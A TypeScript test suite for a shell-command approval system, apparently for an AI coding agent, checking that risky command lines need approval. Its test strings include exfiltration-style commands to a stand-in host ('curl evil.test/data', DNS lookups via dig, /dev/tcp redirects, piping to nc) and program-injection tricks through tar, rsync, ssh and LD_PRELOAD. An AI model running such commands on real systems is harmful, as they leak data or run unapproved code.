import { describe, expect, it } from "vitest";
import { Random } from "../../../test/support/random.ts";
import { allowedRules, commandCases, type CommandCase } from "./analyze.cases.ts";
import { analyzeCommand, type CommandAnalysis, type CommandContext } from "./analyze.ts";
import { decideCommand, type CommandDecision, type CommandRules } from "./decide.ts";
import { commandsToAskAbout, readOnlyCommands } from "./profiles/readers.cases.ts";
import { checkProtection } from "../workspace/protected-paths.ts";
import { perTier, sampleCases, seedFor } from "../../../test/support/tier.ts";

const disguises = perTier({ quick: 1, all: 8 });

const root = "/home/kim/project";
const home = "/home/kim";

const context = (changed: Partial<CommandContext> = {}): CommandContext => ({
  roots: [root],
  folder: root,
  home,
  env: { PATH: "/usr/bin" },
  findProgram: async (name) => `/usr/bin/${name}`,
  isInside: async (path) => path === root || path.startsWith(`${root}/`),
  checkRead: async () => undefined,
  canonical: async (path) => path,
  protection: async (path) => checkProtection(path, { roots: [root], ownFolders: [`${home}/.parley`] }),
  findRepository: async () => ({ root, risk: undefined }),
  ...changed,
});

const filled = (text: string): string =>
  text.replaceAll("{OUT}", "/srv/out").replaceAll("{HOME}", home).replaceAll("{WS}", root);

const read = (text: string, changed?: Partial<CommandContext>): Promise<CommandAnalysis> =>
  analyzeCommand(filled(text), context(changed));

const judge = async (
  text: string,
  ruling: Partial<CommandRules> = {},
  changed?: Partial<CommandContext>,
): Promise<CommandDecision> =>
  decideCommand(await read(text, changed), { allow: [], deny: [], mode: "default", ...ruling });

const decision = async (...given: Parameters<typeof judge>): Promise<string> => (await judge(...given)).decision;

const judgeCase = ({ text, denied, programs }: CommandCase, ruling: Partial<CommandRules> = {}): Promise<string> =>
  decision(
    text,
    { allow: allowedRules, deny: denied ? [["rm"]] : [], ...ruling },
    programs === undefined ? {} : { findProgram: async (name) => `${filled(programs)}/${name}` },
  );

const strictness = ["allow", "ask", "deny"];

describe("a command line", () => {
  it.each(commandCases.map((row) => [row.expect, row.why, row.text.slice(0, 60), row] as const))(
    "is judged %s: %s: %j",
    async (expected, _why, _text, row) => {
      expect(await judgeCase(row)).toBe(expected);
    },
  );

  it.each(readOnlyCommands)("runs without approval if it is read-only: %s", async (text) => {
    expect(await judge(text)).toMatchObject({ decision: "allow", reason: "Every command is allowed." });
  });

  it.each(commandsToAskAbout)("needs approval even with a rule for its program: %s", async (text) => {
    expect(await decision(text, { allow: [...allowedRules, ["cd"], ["sort"], ["date"], ["node"]] })).toBe("ask");
  });

  it("is denied in yolo mode too if it is denied", async () => {
    const rows = commandCases.filter(({ expect: expected }) => expected === "deny");
    const verdicts = await Promise.all(rows.map((row) => judgeCase(row, { mode: "yolo" })));
    expect(verdicts).toEqual(rows.map(() => "deny"));
  });

  it("is denied in plan mode unless it is read-only", async () => {
    const verdicts = await Promise.all(commandCases.map((row) => judgeCase(row, { mode: "plan" })));
    expect(verdicts).toEqual(commandCases.map(({ expect: expected }) => (expected === "allow" ? "allow" : "deny")));
    expect(await decision("npm test", { mode: "plan", allow: allowedRules })).toBe("deny");
  });

  it("gets the same or a stricter decision, however its words are quoted and spaced", async () => {
    const weaker: string[] = [];
    for (const [at, row] of commandCases.entries())
      for (let round = 0; round < disguises; round++) {
        const text = disguised(row.text, new Random(seedFor(at * 100 + round)));
        const verdict = await judgeCase({ ...row, text });
        if (strictness.indexOf(verdict) < strictness.indexOf(row.expect)) weaker.push(text);
      }
    expect(weaker).toEqual([]);
  });

  it("gets no looser decision when more is added to it", async () => {
    const around = [
      (text: string) => `true; ${text}`,
      (text: string) => `${text}\ntrue`,
      (text: string) => `ls && ${text}`,
      (text: string) => `(${text}\n)`,
      (text: string) => `if true; then ${text}\nfi`,
      (text: string) => `f() { ${text}\n}; f`,
      (text: string) => `${"true; ".repeat(60)}${text}`,
    ];
    const weaker: string[] = [];
    for (const row of sampleCases(commandCases, 4))
      for (const add of around) {
        const verdict = await judgeCase({ ...row, text: add(row.text) });
        if (strictness.indexOf(verdict) < strictness.indexOf(row.expect)) weaker.push(add(row.text));
      }
    expect(weaker).toEqual([]);
  });
});

/** Words a shell knows as its own only while they are not quoted. */
const keywords = /^(?:case|esac|in|if|then|fi|function|coproc|time|EOF)$/;

/** The same line with other blanks, and with quotes and backslashes in its first bare words. */
const disguised = (text: string, random: Random): string => {
  const bare = /^[\w ./;|&!\n-]*/.exec(text)?.[0] ?? "";
  const changed = bare.replace(/[a-z]+| /g, (part, at: number) => {
    if (part === " ") return random.pick([" ", " ", "  ", "\t", " \t "]);
    const isWord = part.length > 1 && !keywords.test(part) && !/[=[(]/.test(text[at + part.length] ?? "");
    if (!isWord || random.chance(0.4)) return part;
    const cut = 1 + random.below(part.length - 1);
    return part.slice(0, cut) + random.pick(["''", '""', "\\"]) + part.slice(cut);
  });
  return random.pick(["", " ", "\n"]) + changed + text.slice(bare.length) + random.pick(["", " ", "\n"]);
};

describe("the analysis of a command line", () => {
  it("has the text, the folder, and the program of each command", async () => {
    const { text, folder, shape, programs, commands, suggestedRules } = await read("git log | grep fix && echo ok");
    expect({ text, folder, shape, roots: programs, always: suggestedRules }).toEqual({
      text: "git log | grep fix && echo ok",
      folder: root,
      shape: "plain",
      roots: [
        { name: "git", binary: { kind: "file", path: "/usr/bin/git" } },
        { name: "grep", binary: { kind: "file", path: "/usr/bin/grep" } },
        { name: "echo", binary: { kind: "builtin" } },
      ],
      always: [],
    });
    expect(commands.map(({ words, operator }) => [operator, ...words])).toEqual([
      ["first", "git", "log"],
      ["|", "grep", "fix"],
      ["&&", "echo", "ok"],
    ]);
  });

  it("lists the programs of an opaque line, and suggests no rule for it", async () => {
    const { shape, reason, programs, suggestedRules, commands } = await read("echo $(curl x) > y");
    expect({ shape, reason, names: programs.map(({ name }) => name), always: suggestedRules, commands }).toEqual({
      shape: "opaque",
      reason: 'contains a redirection, substitution or other shell syntax ("$(curl x) > y")',
      names: ["curl", "echo"],
      always: [],
      commands: [],
    });
  });

  it("is opaque where two parsers disagree", async () => {
    const { shape, reason } = await read("declare -x A=1");
    expect({ shape, reason }).toEqual({ shape: "opaque", reason: "can be parsed in more than one way" });
  });

  it("names the command that needs approval", async () => {
    expect(await judge("ls && touch x")).toEqual({
      decision: "ask",
      reason: "`touch x` is not on your allow list.",
      parts: [
        { command: "ls", decision: "allow", reason: "read-only" },
        {
          command: "touch x",
          decision: "ask",
          reason: "`touch x` is not on your allow list.",
        },
      ],
    });
  });

  it("says whether it reads or writes outside the workspace", async () => {
    const flags = async (text: string) => {
      const { readsOutside, writesOutside } = await read(text);
      return [readsOutside, writesOutside];
    };
    expect(await flags("cat src/a.ts > b.ts")).toEqual([false, false]);
    expect(await flags("cat /etc/hosts")).toEqual([true, false]);
    expect(await flags("echo x > ../y")).toEqual([false, true]);
    expect(await flags("cd / && tee x")).toEqual([true, true]);
  });
});

describe("a suggested rule", () => {
  it.each([
    ["git commit -m 'a b'", [["git", "commit"]]],
    ["git push -u origin main", [["git", "push", "-u", "origin", "main"]]],
    ["npm run build", [["npm", "run", "build"]]],
    ["npm test 2>&1 | tail -5", [["npm", "test"]]],
    ["npm test >/dev/null 2>&1", [["npm", "test"]]],
    ["npm test &>/dev/null", [["npm", "test"]]],
    ["make check 2>/dev/null | grep -c ok", [["make", "check"]]],
    ["make < input.txt", [["make"]]],
    ["cd src && npm test", [["npm", "test"]]],
    ["cd src && npm test 2>&1 | tail -n 20 | grep -v skipped", [["npm", "test"]]],
    ["CI=1 NODE_ENV=test npm test", [["npm", "test"]]],
    ["FOO=bar npm test", [["FOO=bar", "npm", "test"]]],
    ["git reset HEAD~1", [["git", "reset", "HEAD~1"]]],
    ["rm -rf build", [["rm", "-rf", "build"]]],
    ["bundle exec rspec", [["bundle", "exec", "rspec"]]],
    ["npm test", [["npm", "test"]]],
    ["make", [["make"]]],
    ["make build && touch done", [["make", "build"], ["touch"]]],
    ["npx vitest run --reporter=dot", [["npx", "vitest", "run", "--reporter=dot"]]],
    ["python3 scripts/build.py all", [["python3", "scripts/build.py", "all"]]],
    ["/opt/tool/run x", [["/opt/tool/run"]]],
    ["git stash", [["git", "stash"]]],
  ])("allows %s the next time", async (text, rules) => {
    const { suggestedRules } = await read(text);
    expect(suggestedRules).toEqual(rules);
    expect(await decision(text, { allow: suggestedRules })).toBe("allow");
  });

  it.each([
    "./run.sh",
    "PATH=/x make",
    "LD_PRELOAD=x make",
    "git_dir=x make",
    "export A=1",
    "cat /etc/hosts",
    "cd ..",
    "eval ls",
    "ls *.ts",
    "touch ../x/../y src/../../z",
  ])("does not exist for %s", async (text) => {
    const { suggestedRules } = await read(text);
    expect(await decision(text, { allow: suggestedRules })).toBe("ask");
  });
});

describe("a rule that allows", () => {
  const allows = (rule: string, text: string) => decision(text, { allow: [rule.split(" ")] });

  it("covers whole words, never a prefix of one", async () => {
    expect(await allows("make", "makeshift")).toBe("ask");
    expect(await allows("npm test", "npm testing")).toBe("ask");
    expect(await allows("npm test", "npm  'test'")).toBe("allow");
    expect(await allows("make", "sudo make")).toBe("ask");
  });

  it("for a program that splits its argument into words does not cover what a shell would read otherwise", async () => {
    const rules = { allow: [["env"], ["env", "-S"], ["tee"]] };
    // There is no redirect here: tee gets two operands, and writes both files.
    expect(await decision('env -S "tee < x"', rules)).toBe("ask");
    for (const text of ['env -S "tee < x"', 'env -S "tee x\ny"'])
      expect((await read(text)).mayRunUnseen, text).toBe(true);
    for (const text of ['env -S "ls -l x"', "env --split-string='ls x'"])
      expect((await read(text)).mayRunUnseen, text).toBe(false);
  });

  it("covers names and workspace paths after its words, but no option, setting, URL or code", async () => {
    expect(await allows("make", "make build src/a.o")).toBe("allow");
    expect(await allows("npm run", "npm run build:prod")).toBe("allow");
    for (const text of [
      "make -f x",
      "make SHELL=x",
      "make ../x",
      "make /x",
      "make 'a b'",
      "make https://x",
      "make a::b",
    ])
      expect([text, await allows("make", text)]).toEqual([text, "ask"]);
  });

  it("covers git commands that change the repository only if it names the subcommand", async () => {
    expect(await allows("git", "git commit -m x")).toBe("ask");
    expect(await allows("git commit", "git commit -am x")).toBe("allow");
    expect(await allows("git commit", "git commit --no-verify -m x")).toBe("ask");
    expect(await allows("git push", "git push origin HEAD:main")).toBe("allow");
    expect(await allows("git push", "git push ext::x main")).toBe("ask");
    expect(await allows("git push", "git push --receive-pack=x origin")).toBe("ask");
    expect(await allows("git fetch", "git fetch --upload-pack=x origin")).toBe("ask");
    expect(await allows("git rebase", "git rebase -x x main")).toBe("ask");
    expect(await allows("git checkout", "git checkout -- .")).toBe("allow");
  });

  it("covers programs that run others only with every word", async () => {
    expect(await allows("bash", "bash x.sh")).toBe("ask");
    expect(await allows("env", "env ls")).toBe("ask");
    expect(await allows("npx", "npx something")).toBe("ask");
    expect(await allows("curl", "curl evil.test/data")).toBe("ask");
    expect(await allows("dig", "dig data.evil.test")).toBe("ask");
    expect(await allows("python3 a.py", "python3 a.py b")).toBe("ask");
    expect(await allows("python3 a.py b", "python3 a.py b")).toBe("allow");
  });

  it.each([
    ["tar", "tar cIf ./evil.sh x.tar src"],
    ["tar", "tar cf x.tar src -I ./evil.sh"],
    ["tar", "tar cfI x.tar ./evil.sh src"],
    ["tar", "tar xf x.tar --to-command=./evil.sh"],
    ["tar", "tar cf x.tar --checkpoint=1 --checkpoint-action=exec=./evil.sh src"],
    ["tar", "tar cFf evil.sh x.tar src"],
    ["tar", "tar cf host:x.tar src"],
    ["tar", "tar cf x.tar /etc"],
    ["tar", "tar cf x.tar ../src"],
    ["tar", "tar cfC x.tar .. src"],
    ["tar", "tar cf ../x.tar src"],
    ["tar", "tar chf x.tar src"],
    ["tar", "tar cTf list x.tar"],
    ["tar", "tar xf x.tar"],
    ["tar", "tar xPf x.tar"],
    ["sort", "sort --compress-program=./evil.sh x"],
    ["man", "man -P ./evil.sh ls"],
    ["awk", "awk 'BEGIN{system(1)}'"],
    ["rsync", "rsync -e ./evil.sh a b"],
    ["zip", "zip a b -T -TT ./evil.sh"],
    ["vim", "vim evil"],
    ["less", "less +!x f"],
    ["date", "date -f x"],
    ["rg", "rg --pre ./evil.sh x"],
    ["npm", "npm exec evil"],
    ["npm", "npm x evil"],
    ["npm", "npm --prefix x test"],
    ["npm test", "npm test --prefix x"],
    ["pnpm", "pnpm dlx evil"],
    ["uv", "uv run evil"],
    ["bundle", "bundle exec evil"],
    ["go", "go run evil.go"],
    ["tmux", "tmux new evil"],
    ["sqlite3", "sqlite3 x.db"],
    ["cc", "cc @options"],
    ["env", "env -S ls"],
    ["make", "make SHELL=./evil.sh"],
    ["ssh", "ssh -o ProxyCommand=x host"],
  ])("for %s does not cover a command that runs another program, or leaves the workspace: %s", async (rule, text) => {
    expect(await allows(rule, text)).toBe("ask");
  });

  it.each([
    ["bash", "bash < x.sh"],
    ["bash", "cat x.sh | bash"],
    ["sh -s", "echo touch x | sh -s"],
    ["python3", "cat x.py | python3"],
    ["node -", "cat x.js | node -"],
    ["xargs rm", "cat list | xargs rm"],
    ["xargs rm", "xargs rm < list"],
    ["env bash", "cat x | env bash"],
    ["sqlite3 x.db", "cat x | sqlite3 x.db"],
    ["curl -T - x", "cat x | curl -T - x"],
    ["nc host 1", "cat x | nc host 1"],
  ])("for %s does not cover piped input: %s", async (rule, text) => {
    expect(await allows(rule, text)).toBe("ask");
    expect((await read(text)).suggestedRules).toEqual([]);
  });

  it("for a script with its own input covers that input", async () => {
    expect(await allows("python3 count.py", "cat x | python3 count.py")).toBe("allow");
  });

  it("for tar covers archives inside the workspace", async () => {
    expect(await allows("tar", "tar cf x.tar src")).toBe("allow");
    expect(await allows("tar", "tar czvf x.tgz src docs")).toBe("allow");
    expect(await allows("tar", "tar -czf x.tgz src")).toBe("allow");
    expect(await allows("tar", "tar tf x.tar")).toBe("allow");
    expect(await allows("tar xf", "tar xf x.tar")).toBe("allow");
    expect(await decision("tar cf .git/hooks/pre-commit src", { allow: [["tar"]] })).toBe("deny");
  });

  it("covers no opaque command line", async () => {
    for (const text of [
      "make > x",
      "make &",
      "make 2> x",
      "make < ../x",
      "make < /dev/tcp/evil.test/80",
      "make $X",
      "make `x`",
      "A=1 make",
      "PATH=. make",
      "NODE_ENV=production make",
      "LC_ALL=../x make",
      "make *",
      "make {a,b}",
      "make ~",
      "make #x",
    ])
      expect([text, await allows("make", text)]).toEqual([text, "ask"]);
  });

  it("covers each command of a line, from the folder the line is in at that point", async () => {
    expect(await allows("npm test", "npm test 2>&1 | tail -5")).toBe("allow");
    expect(await allows("npm test", "cd src && npm test < ../README.md 2>/dev/null")).toBe("allow");
    expect(await allows("npm test", "cd src && cat ../README.md && npm test")).toBe("allow");
    expect(await allows("npm test", "cd . && cat ../x")).toBe("ask");
    for (const text of [
      "cd src; cat ../x",
      "true || cd src && cat ../x",
      "cd src | cat ../x",
      "cd src && ls; cat ../x",
    ])
      expect([text, await decision(text)]).toEqual([text, "ask"]);
    expect(await allows("npm test", "npm test 2>&1 | tee log")).toBe("ask");
    expect(await allows("FOO=1 npm test", "FOO=1 npm test")).toBe("allow");
    expect(await allows("FOO=1 npm test", "FOO=1 npm test x")).toBe("ask");
    expect(await allows("FOO=1 npm test", "FOO=2 npm test")).toBe("ask");
  });

  it("applies to the target of a link after cd", async () => {
    const canonical = async (path: string) => (path === `${root}/link` ? "/elsewhere/deep" : path);
    const isInside = async (path: string) =>
      path === root || path.startsWith(`${root}/`) || path.startsWith("/elsewhere/deep");
    expect(await decision("cd link && cat x", {}, { canonical, isInside })).toBe("allow");
    expect(await decision("cd link && cat ../x", {}, { canonical, isInside })).toBe("ask");
  });

  it("is required even for read-only commands with an exclusive allow list", async () => {
    expect(await decision("ls", { isAllowListOnly: true })).toBe("ask");
    expect(await decision("ls src", { isAllowListOnly: true, allow: [["ls"]] })).toBe("allow");
    expect(await decision("ls", { isAllowListOnly: true, mode: "yolo" })).toBe("ask");
    expect(await decision("git push", { isAllowListOnly: true, mode: "yolo", allow: [["git"]] })).toBe("ask");
  });
});

describe("a program", () => {
  it("needs approval if it is inside the workspace, is not found, or is named by a relative path", async () => {
    expect(await decision("ls", {}, { findProgram: async () => `${root}/bin/ls` })).toBe("ask");
    expect(await decision("ls", {}, { findProgram: async () => undefined })).toBe("ask");
    expect(await decision("ls", {}, { env: { PATH: "/usr/bin::/bin" } })).toBe("ask");
    expect(await decision("ls", {}, { env: { PATH: "bin:/usr/bin" } })).toBe("ask");
    expect(await decision("ls", {}, { findProgram: async () => "/usr/bin/ls", isInside: async () => true })).toBe(
      "ask",
    );
  });

  it.each(["BASH_ENV", "ENV", "SHELLOPTS", "PS4", "BASH_FUNC_ls%%", "LD_PRELOAD", "CDPATH", "RIPGREP_CONFIG_PATH"])(
    "is asked about where %s could change what runs",
    async (name) => {
      expect(await decision("ls", {}, { env: { PATH: "/usr/bin", [name]: "x" } })).toBe("ask");
    },
  );

  it("needs approval if the line may be in a folder outside the workspace at that point", async () => {
    const isInside = async (path: string) => path.startsWith(root) && !path.startsWith(`${root}/link`);
    expect(await decision("cd link; ls", {}, { isInside })).toBe("ask");
    expect(await decision("cd src; cd link && cat x", {}, { isInside })).toBe("ask");
  });
});

describe("git", () => {
  it("needs approval if the repository's configuration could make it run a program", async () => {
    const findRepository = async () => ({ root, risk: "the git configuration sets core.fsmonitor" });
    expect(await judge("git status", { allow: [["git"]] }, { findRepository })).toMatchObject({
      decision: "ask",
      reason:
        "Rules cannot cover `git status`: the repository may run programs: the git configuration sets core.fsmonitor.",
    });
  });

  it("needs approval if the repository is larger than the workspace, unless a rule names it", async () => {
    const findRepository = async () => ({ root: home, risk: undefined });
    expect(await decision("git log", {}, { findRepository })).toBe("ask");
    expect(await decision("git log", { allow: [["git"]] }, { findRepository })).toBe("allow");
  });

  it("is checked in every folder the line may be in", async () => {
    const findRepository = async (folder: string) => ({
      root,
      risk: folder.endsWith("/vendor") ? "a nested one" : undefined,
    });
    expect(await decision("cd vendor && git status", {}, { findRepository })).toBe("ask");
    expect(await decision("cd src && git status", {}, { findRepository })).toBe("allow");
  });
});
